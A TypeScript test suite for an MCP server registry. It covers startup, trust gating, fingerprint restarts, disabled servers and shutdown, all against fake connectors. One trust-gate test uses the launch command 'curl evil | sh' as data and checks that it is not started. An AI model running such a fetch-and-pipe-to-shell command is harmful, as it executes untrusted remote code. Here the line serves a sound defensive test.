import * as assert from 'node:assert/strict';
import { ToolCallGate } from '../../src/core/calls/toolCallGate';
import type { EffectiveServer } from '../../src/core/config/types';
import { ConnectError } from '../../src/core/lifecycle/errors';
import { ServerRegistry, type ServerRegistryOptions } from '../../src/core/lifecycle/registry';
import type { CatalogChange, ServerStateChange } from '../../src/core/lifecycle/serverController';
import { startupSummaryLine } from '../../src/core/lifecycle/summary';
import { deferred, FakeClock, FakeConnector, flush, makeServer, RecordingLog } from './helpers/lifecycle';

function setup(options: Partial<ServerRegistryOptions> = {}) {
  const clock = new FakeClock();
  const connector = new FakeConnector();
  const logs = new Map<string, RecordingLog>();
  const registry = new ServerRegistry({
    connector,
    clock,
    logFor: (server) => {
      const log = new RecordingLog();
      logs.set(server.id, log);
      return log;
    },
    ...options,
  });
  const changes: ServerStateChange[] = [];
  const catalogChanges: CatalogChange[] = [];
  registry.onDidChangeState((change) => changes.push(change));
  registry.onDidChangeCatalog((change) => catalogChanges.push(change));
  const states = (): Record<string, string> => Object.fromEntries(registry.list().map((view) => [view.id, view.state.kind]));
  const history = (id: string): string[] => changes.filter((change) => change.id === id).map((change) => change.state.kind);
  return { clock, connector, logs, registry, changes, catalogChanges, states, history };
}

/** The same server with a different launch (so a different fingerprint). */
function changed(server: EffectiveServer, command: string): EffectiveServer {
  return makeServer(server.id, { scope: server.scope }, { ...server.launch, command });
}

describe('ServerRegistry', () => {
  let cleanup: (() => void) | undefined;
  afterEach(() => { cleanup?.(); cleanup = undefined; });

  it('starts every added server in parallel: a slow one does not delay a fast one', async () => {
    const { registry, connector, states } = setup();
    cleanup = () => registry.dispose();
    connector.plan('slow', 'manual');
    registry.reconcile([makeServer('slow'), makeServer('fast')]);
    assert.deepEqual(states(), { slow: 'starting', fast: 'starting' }, 'reconcile returns without waiting');
    await flush();
    assert.deepEqual(states(), { slow: 'starting', fast: 'ready' });
    connector.attempt('slow').resolve();
    await flush();
    assert.deepEqual(states(), { slow: 'ready', fast: 'ready' });
  });

  it('leaves an on-demand server (a skill\'s) stopped until start(id), and stopped again after stop(id)', async () => {
    const skillServer = (id: string, scope: EffectiveServer['scope'] = 'user'): EffectiveServer => ({ ...makeServer(id, { scope }), skill: { name: 'notes', server: id, file: '/h/.claude/skills/notes/SKILL.md' } });
    let trusted = false;
    const { registry, states } = setup({
      startsOnDemand: (server) => server.skill !== undefined,
      gate: (server) => (server.scope !== 'project' || trusted ? 'allowed' : 'refused'),
    });
    cleanup = () => registry.dispose();
    registry.reconcile([makeServer('plain'), skillServer('notes.memory'), skillServer('notes.repo', 'project')]);
    await flush();
    assert.deepEqual(states(), { plain: 'ready', 'notes.memory': 'stopped', 'notes.repo': 'needsTrust' });
    await registry.start('notes.memory');
    assert.equal(states()['notes.memory'], 'ready');
    await registry.stop('notes.memory');
    assert.equal(states()['notes.memory'], 'stopped');
    // Trusted (e.g. in the trust prompt) but not in use: it waits stopped, it does not start.
    trusted = true;
    registry.applyGate();
    await flush();
    assert.equal(states()['notes.repo'], 'stopped');
  });

  it('one failure does not stop the others', async () => {
    const { registry, connector, states } = setup();
    cleanup = () => registry.dispose();
    connector.plan('bad', new Error('command not found: nope'));
    registry.reconcile([makeServer('a'), makeServer('bad'), makeServer('b')]);
    await registry.settled();
    assert.deepEqual(states(), { a: 'ready', bad: 'failed', b: 'ready' });
  });

  it('gives every server the same ConnectRequest settings', async () => {
    const { registry, connector } = setup({ settings: { startupTimeoutMs: 10_000, shutdownGraceMs: 500, trace: true } });
    cleanup = () => registry.dispose();
    registry.reconcile([makeServer('a'), makeServer('b')]);
    await registry.settled();
    assert.deepEqual(connector.requests.map((r) => [r.server.id, r.startupTimeoutMs, r.shutdownGraceMs, r.trace]), [
      ['a', 10_000, 500, true], ['b', 10_000, 500, true],
    ]);
  });

  it('stops and forgets a removed server', async () => {
    const { registry, connector, states, history } = setup();
    cleanup = () => registry.dispose();
    let serverEvents = 0;
    registry.onDidChangeServers(() => serverEvents++);
    registry.reconcile([makeServer('a'), makeServer('b')]);
    await registry.settled();
    registry.reconcile([makeServer('a')]);
    assert.deepEqual(states(), { a: 'ready' });
    assert.equal(registry.get('b'), undefined);
    assert.deepEqual(history('b'), ['starting', 'ready', 'stopped']);
    await registry.stopAll();
    assert.equal(connector.last('b').closeCalls, 1);
    assert.equal(connector.last('b').disposed, true);
    assert.equal(serverEvents, 2);
  });

  it('a changed fingerprint restarts only that server', async () => {
    const { registry, connector } = setup();
    cleanup = () => registry.dispose();
    const a = makeServer('a');
    const b = makeServer('b');
    registry.reconcile([a, b]);
    await registry.settled();
    const b2 = changed(b, 'run-b-v2');
    registry.reconcile([a, b2]);
    await registry.settled();
    assert.equal(connector.count('a'), 1);
    assert.equal(connector.count('b'), 2);
    assert.equal(connector.requests[2].server, b2, 'restarted with the new definition');
    assert.equal(connector.connections.get('b')?.[0].closeCalls, 1);
    assert.equal(registry.get('b')?.state.kind, 'ready');
  });

  it('an unchanged fingerprint restarts nothing but takes the new metadata', async () => {
    const { registry, connector, changes } = setup();
    cleanup = () => registry.dispose();
    const a = makeServer('a');
    registry.reconcile([a]);
    await registry.settled();
    changes.length = 0;
    const moved = { ...a, source: { ...a.source, line: 12 }, timeout: 9000 };
    registry.reconcile([moved]);
    await flush();
    assert.equal(connector.count('a'), 1);
    assert.deepEqual(changes, []);
    assert.equal(registry.get('a')?.server.source.line, 12);
  });

  it('a changed fingerprint retries a failed server but leaves a stopped one stopped', async () => {
    const { registry, connector, states } = setup();
    cleanup = () => registry.dispose();
    connector.plan('broken', new Error('command not found: nope'));
    const broken = makeServer('broken');
    const idle = makeServer('idle');
    registry.reconcile([broken, idle]);
    await registry.settled();
    await registry.stop('idle');
    registry.reconcile([changed(broken, 'fixed'), changed(idle, 'other')]);
    await registry.settled();
    assert.deepEqual(states(), { broken: 'ready', idle: 'stopped' });
    assert.equal(connector.count('idle'), 1);
  });

  it('disabled servers are never started; enabling starts them, disabling stops them', async () => {
    const { registry, connector, states } = setup();
    cleanup = () => registry.dispose();
    const off = makeServer('x', { disabled: true });
    registry.reconcile([off]);
    await registry.settled();
    assert.deepEqual(states(), { x: 'disabled' });
    assert.equal(connector.count('x'), 0);
    registry.reconcile([{ ...off, disabled: false }]);
    await registry.settled();
    assert.deepEqual(states(), { x: 'ready' });
    registry.reconcile([{ ...off, disabled: true }]);
    assert.deepEqual(states(), { x: 'disabled' });
    await flush();
    assert.equal(connector.last('x').closeCalls, 1);
  });

  it('an explicit start runs a disabled server until the config changes its disabled flag', async () => {
    const { registry, states } = setup();
    cleanup = () => registry.dispose();
    const off = makeServer('x', { disabled: true });
    registry.reconcile([off]);
    await registry.start('x');
    registry.reconcile([{ ...off, source: { ...off.source, line: 2 } }]);
    assert.deepEqual(states(), { x: 'ready' }, 'an unrelated edit does not undo the explicit start');
    registry.reconcile([{ ...off, disabled: false }]);
    registry.reconcile([{ ...off, disabled: true }]);
    assert.deepEqual(states(), { x: 'disabled' });
  });

  it('a server hosted elsewhere is held as disabled with the reason, never connected; applyGate starts it once it is not, and holds it again', async () => {
    let elsewhere: string | undefined = 'VS Code hosts it';
    const { registry, connector, states } = setup({ hostedElsewhere: (server) => (server.id === 'p' ? elsewhere : undefined) });
    cleanup = () => registry.dispose();
    registry.reconcile([makeServer('p'), makeServer('u')]);
    await registry.settled();
    assert.deepEqual(states(), { p: 'disabled', u: 'ready' });
    assert.deepEqual(registry.get('p')?.state, { kind: 'disabled', reason: 'VS Code hosts it' });
    assert.equal(connector.count('p'), 0);
    elsewhere = 'another reason';
    registry.applyGate();
    assert.deepEqual(registry.get('p')?.state, { kind: 'disabled', reason: 'another reason' }, 'a changed reason is shown');
    elsewhere = undefined;
    registry.applyGate();
    await registry.settled();
    assert.deepEqual(states(), { p: 'ready', u: 'ready' });
    elsewhere = 'VS Code hosts it';
    registry.applyGate();
    assert.deepEqual(registry.get('p')?.state, { kind: 'disabled', reason: 'VS Code hosts it' });
    await flush();
    assert.equal(connector.last('p').closeCalls, 1, 'the running server was stopped');
    assert.equal(registry.get('u')?.state.kind, 'ready', 'the other server is untouched');
  });

  it('an entry that says "disabled": true shows no hosted-elsewhere reason', async () => {
    const { registry } = setup({ hostedElsewhere: () => 'VS Code hosts it' });
    cleanup = () => registry.dispose();
    registry.reconcile([makeServer('x', { disabled: true })]);
    await registry.settled();
    assert.deepEqual(registry.get('x')?.state, { kind: 'disabled' });
  });

  describe('project scope gate', () => {
    it('parks a project server in needsTrust without ever connecting', async () => {
      const { registry, connector, states } = setup();
      cleanup = () => registry.dispose();
      registry.reconcile([makeServer('p', { scope: 'project' }), makeServer('u')]);
      await registry.settled();
      assert.deepEqual(states(), { p: 'needsTrust', u: 'ready' });
      assert.equal(connector.count('p'), 0);
    });

    it('starts it on an explicit start, and keeps it running across unchanged reconciles', async () => {
      const { registry, connector, states } = setup();
      cleanup = () => registry.dispose();
      const p = makeServer('p', { scope: 'project' });
      registry.reconcile([p]);
      await registry.start('p');
      assert.deepEqual(states(), { p: 'ready' });
      registry.reconcile([{ ...p, source: { ...p.source, line: 3 } }]);
      await flush();
      assert.deepEqual(states(), { p: 'ready' });
      assert.equal(connector.count('p'), 1);
    });

    it('a fingerprint change stops an explicitly started project server and returns it to needsTrust', async () => {
      const { registry, connector, states, history } = setup();
      cleanup = () => registry.dispose();
      const p = makeServer('p', { scope: 'project' });
      registry.reconcile([p]);
      await registry.start('p');
      registry.reconcile([changed(p, 'curl evil | sh')]);
      await registry.settled();
      assert.deepEqual(states(), { p: 'needsTrust' });
      assert.deepEqual(history('p'), ['needsTrust', 'starting', 'ready', 'needsTrust']);
      assert.equal(connector.last('p').closeCalls, 1);
      assert.equal(connector.count('p'), 1, 'the changed definition is not started');
    });

    it('stop(id) leaves a parked server parked', async () => {
      const { registry, states, changes } = setup();
      cleanup = () => registry.dispose();
      registry.reconcile([makeServer('p', { scope: 'project' }), makeServer('d', { disabled: true })]);
      changes.length = 0;
      await registry.stop('p');
      await registry.stop('d');
      assert.deepEqual(states(), { p: 'needsTrust', d: 'disabled' });
      assert.deepEqual(changes, []);
    });

    it('restart(id) of a server waiting for trust is an explicit start', async () => {
      const { registry, states } = setup();
      cleanup = () => registry.dispose();
      registry.reconcile([makeServer('p', { scope: 'project' })]);
      await registry.restart('p');
      assert.deepEqual(states(), { p: 'ready' });
    });

    it('takes the gate as a port and re-asks it on applyGate()', async () => {
      const trusted = new Set<string>();
      const { registry, connector, states } = setup({ gate: (server) => (server.scope !== 'project' || trusted.has(server.fingerprint) ? 'allowed' : 'refused') });
      cleanup = () => registry.dispose();
      const p = makeServer('p', { scope: 'project' });
      registry.reconcile([p]);
      await registry.settled();
      assert.deepEqual(states(), { p: 'needsTrust' });
      trusted.add(p.fingerprint);
      registry.applyGate();
      await registry.settled();
      assert.deepEqual(states(), { p: 'ready' });
      trusted.delete(p.fingerprint);
      registry.applyGate();
      assert.deepEqual(states(), { p: 'needsTrust' });
      await flush();
      assert.equal(connector.last('p').closeCalls, 1);
    });

    it('with a trusting gate, a fingerprint change restarts the project server instead', async () => {
      const { registry, connector, states } = setup({ gate: () => 'allowed' });
      cleanup = () => registry.dispose();
      const p = makeServer('p', { scope: 'project' });
      registry.reconcile([p]);
      await registry.settled();
      registry.reconcile([changed(p, 'v2')]);
      await registry.settled();
      assert.deepEqual(states(), { p: 'ready' });
      assert.equal(connector.count('p'), 2);
    });
  });

  it('setRoots notifies every ready server once per actual change, and connect requests read the current roots', async () => {
    const { registry, connector } = setup();
    cleanup = () => registry.dispose();
    connector.plan('late', 'manual');
    registry.setRoots([{ uri: 'file:///ws/a', name: 'a' }]);
    registry.reconcile([makeServer('a'), makeServer('b'), makeServer('late')]);
    await flush();
    registry.setRoots([{ uri: 'file:///ws/a', name: 'a' }, { uri: 'file:///ws/b', name: 'b' }]);
    registry.setRoots([{ uri: 'file:///ws/a', name: 'a' }, { uri: 'file:///ws/b', name: 'b' }]);
    assert.equal(connector.last('a').rootsNotified, 1);
    assert.equal(connector.last('b').rootsNotified, 1);
    const late = connector.attempt('late');
    assert.deepEqual(late.request.roots().map((root) => root.uri), ['file:///ws/a', 'file:///ws/b']);
    assert.equal(late.resolve().rootsNotified, 0, 'a server that was not ready is not notified');
  });

  it('setLogLevel and updateSettings reach every ready server that declared logging', async () => {
    const { registry, connector } = setup();
    cleanup = () => registry.dispose();
    connector.setup = (connection) => connection.setPages('tools', [[{ name: 'echo', inputSchema: {} }]]);
    registry.reconcile([makeServer('a')]);
    await registry.settled();
    registry.setLogLevel('debug');
    registry.updateSettings({ logLevel: 'error', requestTimeoutMs: 5000 });
    registry.updateSettings({ requestTimeoutMs: undefined });
    assert.deepEqual(connector.last('a').logLevels, ['info', 'debug', 'error']);
    assert.equal(registry.settings.requestTimeoutMs, 5000);
    await new ToolCallGate({ registry }).call({ serverId: 'a', tool: 'echo', caller: 'test' });
    assert.equal(connector.last('a').calls[0].options.timeoutMs, 5000);
  });

  it('settled() waits for every start and summarizes', async () => {
    const { registry, connector } = setup();
    cleanup = () => registry.dispose();
    connector.plan('x', new ConnectError('command not found: nope'));
    connector.plan('slow', 'manual');
    registry.reconcile([
      makeServer('a'), makeServer('b'), makeServer('slow'), makeServer('x'),
      makeServer('p', { scope: 'project' }), makeServer('q', { scope: 'project' }), makeServer('off', { disabled: true }),
    ]);
    let settled = false;
    const summary = registry.settled().then((value) => { settled = true; return value; });
    await flush();
    assert.equal(settled, false, 'slow is still starting');
    connector.attempt('slow').resolve();
    const result = await summary;
    assert.deepEqual(result, {
      ready: ['a', 'b', 'slow'],
      failed: [{ id: 'x', error: 'command not found: nope' }],
      needsTrust: ['p', 'q'],
      needsSignIn: [],
      disabled: ['off'],
      stopped: [],
    });
    assert.equal(startupSummaryLine(result), 'MCP servers: 3 ready · 1 failed (x: command not found: nope) · 2 need trust · 1 disabled');
  });

  it('settled() also waits for a crashed server to come back or give up', async () => {
    const { registry, connector, clock } = setup();
    cleanup = () => registry.dispose();
    registry.reconcile([makeServer('a')]);
    await registry.settled();
    connector.last('a').crash();
    let settled = false;
    const done = registry.settled().then(() => { settled = true; });
    await flush();
    assert.equal(settled, false);
    await clock.tick(1000);
    await done;
    assert.equal(registry.get('a')?.state.kind, 'ready');
  });

  it('stopAll stops every server in parallel and waits for every staged close', async () => {
    const { registry, connector, states } = setup();
    cleanup = () => registry.dispose();
    registry.reconcile([makeServer('a'), makeServer('b')]);
    await registry.settled();
    const closes = [deferred<void>(), deferred<void>()];
    connector.last('a').close = () => closes[0].promise;
    connector.last('b').close = () => closes[1].promise;
    let done = false;
    const stopping = registry.stopAll().then(() => { done = true; });
    assert.deepEqual(states(), { a: 'stopping', b: 'stopping' }, 'both were asked to stop at once');
    closes[1].resolve();
    await flush();
    assert.equal(done, false);
    assert.deepEqual(states(), { a: 'stopping', b: 'stopped' });
    closes[0].resolve();
    await stopping;
    assert.deepEqual(states(), { a: 'stopped', b: 'stopped' });
    assert.equal(connector.last('a').disposed, true);
  });

  it('restartAll restarts running and failed servers, not parked or stopped ones', async () => {
    const { registry, connector } = setup();
    cleanup = () => registry.dispose();
    connector.plan('f', new Error('nope'));
    registry.reconcile([makeServer('r'), makeServer('f'), makeServer('s'), makeServer('p', { scope: 'project' }), makeServer('d', { disabled: true })]);
    await registry.settled();
    await registry.stop('s');
    assert.deepEqual((await registry.restartAll()).sort(), ['f', 'r'], 'it says which servers it restarted');
    assert.deepEqual(['r', 'f', 's', 'p', 'd'].map((id) => connector.count(id)), [2, 2, 1, 0, 0]);
  });

  it('routes requests by id and rejects unknown ids and servers that are not running', async () => {
    const { registry } = setup();
    cleanup = () => registry.dispose();
    registry.reconcile([makeServer('a'), makeServer('p', { scope: 'project' })]);
    await registry.settled();
    assert.equal((await registry.readResource('a', 'file:///x')).contents[0].uri, 'file:///x');
    assert.equal((await registry.getPrompt('a', 'greet', {})).messages.length, 1);
    assert.deepEqual(await registry.complete('a', { ref: { type: 'ref/prompt', name: 'greet' }, argument: { name: 'who', value: 'ad' } }), { values: ['ad1', 'ad2'] });
    await assert.rejects(registry.complete('p', { ref: { type: 'ref/prompt', name: 'greet' }, argument: { name: 'who', value: '' } }), { message: 'server p is not running (state: needs trust)' });
    await assert.rejects(registry.readResource('nope', 'file:///x'), { message: 'unknown MCP server: nope' });
    await assert.rejects(registry.start('nope'), { message: 'unknown MCP server: nope' });
    await assert.rejects(registry.getPrompt('p', 'greet', {}), { message: 'server p is not running (state: needs trust)' });
  });

  it('relays catalog changes with the server id', async () => {
    const { registry, connector, catalogChanges } = setup();
    cleanup = () => registry.dispose();
    connector.setup = (connection) => {
      connection.supports = { tools: true, resources: false, resourceTemplates: false, prompts: false, logging: false };
      connection.setPages('tools', [[{ name: 'b', inputSchema: {} }], [{ name: 'a', inputSchema: {} }]]);
    };
    registry.reconcile([makeServer('a')]);
    await registry.settled();
    await registry.catalogsLoaded();
    assert.deepEqual(catalogChanges, [{ id: 'a', kind: 'tools' }]);
    assert.deepEqual(registry.get('a')?.catalog.tools.map((tool) => tool.name), ['a', 'b']);
    catalogChanges.length = 0;
    connector.last('a').setPages('tools', [[{ name: 'c', inputSchema: {} }]]);
    connector.last('a').fireListChanged('tools');
    await registry.catalogsLoaded();
    assert.deepEqual(catalogChanges, [{ id: 'a', kind: 'tools' }]);
    assert.deepEqual(registry.get('a')?.catalog.tools.map((tool) => tool.name), ['c']);
  });

  it('dispose stops everything and later reconciles do nothing', async () => {
    const { registry, connector } = setup();
    registry.reconcile([makeServer('a')]);
    await registry.settled();
    registry.dispose();
    await flush();
    assert.equal(connector.last('a').closeCalls, 1);
    registry.reconcile([makeServer('b')]);
    assert.equal(connector.count('b'), 0);
    assert.deepEqual(await registry.settled(), { ready: [], failed: [], needsTrust: [], needsSignIn: [], disabled: [], stopped: [] });
  });

  it('a server re-added under the same id does not hear from its old controller', async () => {
    const { registry, connector, history } = setup();
    cleanup = () => registry.dispose();
    registry.reconcile([makeServer('a')]);
    await registry.settled();
    const old = connector.last('a');
    registry.reconcile([]);
    registry.reconcile([makeServer('a')]);
    await registry.settled();
    old.crash();
    assert.equal(registry.get('a')?.state.kind, 'ready');
    assert.deepEqual(history('a'), ['starting', 'ready', 'stopped', 'starting', 'ready']);
  });
});
